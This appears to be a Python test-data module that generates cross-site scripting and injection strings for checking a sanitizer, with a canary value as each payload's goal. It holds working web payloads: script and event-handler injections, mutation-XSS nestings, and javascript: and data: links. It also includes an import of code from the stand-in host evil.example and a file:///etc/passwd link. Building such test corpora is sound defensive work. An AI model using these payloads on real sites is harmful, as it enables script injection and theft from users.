"""Texts that would run, load or break something if a page took them for more than text.

Made by combining what runs with the contexts it breaks out of and the ways of writing it, in
the manner of the public collections; the canary ``planted`` is what each tries to set.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

RUN = ("planted(1)", "alert(1)", "window.planted=1", "top.planted(1)", "import('//evil.example/x')")
ELEMENTS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg/onload={0}//", "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=javascript:{0}>", "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>", "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<form action=javascript:{0}><button>x</button></form>",
    "<a href=javascript:{0}>x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<img src=//evil.example/x.png>",
    "<svg><animate onbegin={0} attributeName=x></svg>", "<svg><style><img src=x onerror={0}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>", "<template><script>{0}</script></template>",
    "<marquee onstart={0}>x</marquee>", "<select><style></select><img src=x onerror={0}></style></select>", "<xmp><img src=x onerror={0}></xmp>",
)  # fmt: skip
BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</textarea>",
    "-->",
    "]]>",
    "</p></article></main>",
    "`",
    "{{{{7*7}}}}",
    "\\",
)
LINKS = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java&#9;script:{0}", "&#106;avascript:{0}", "javascript&colon;{0}", "data:text/html,<script>{0}</script>",
    "vbscript:{0}", "//evil.example/{0}", "\\\\evil.example/{0}", "file:///etc/passwd?{0}", "%6aavascript:{0}", "blob:{0}", "../../../../x?{0}",
)  # fmt: skip
HANDLERS = (
    '" onmouseover="{0}" x="',
    "' onfocus='{0}' autofocus '",
    ' style="background:url(//evil.example/x)" {0}',
    '" autofocus onfocus={0} "',
)
TEMPLATES = (
    "{{{{ {0} }}}}",
    "{{% raw %}}{0}{{% endraw %}}",
    "${{{0}}}",
    "[[docket:latest]] {0}",
    "docket-frame-body {0}",
    "docket-frame-head {0}",
    "{{: onclick={0} }}",
)


def _encodings(text: str) -> Iterator[str]:
    yield text
    yield escape(text)
    yield text.swapcase()
    yield text.replace("<", "\\<")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield quote(text)


def vectors() -> list[str]:
    """All of them, each once, on one line each."""
    made: dict[str, None] = {}
    for run, element, before in product(RUN[:2], ELEMENTS, BREAKS):
        made |= dict.fromkeys(_encodings(before.format() + element.format(run)))
    for run, pattern in product(RUN, (*HANDLERS, *TEMPLATES)):
        made |= dict.fromkeys(_encodings(pattern.format(run)))
    for run, link in product(RUN, LINKS):
        target = link.format(run)
        forms = (
            target,
            f"[x]({target})",
            f"![x]({target})",
            f"[x](<{target}>)",
            f"<{target}>",
            f'[x]: {target} "t"',
            f'[x](y "{target}")',
        )
        made |= dict.fromkeys(forms)
    return list(made)
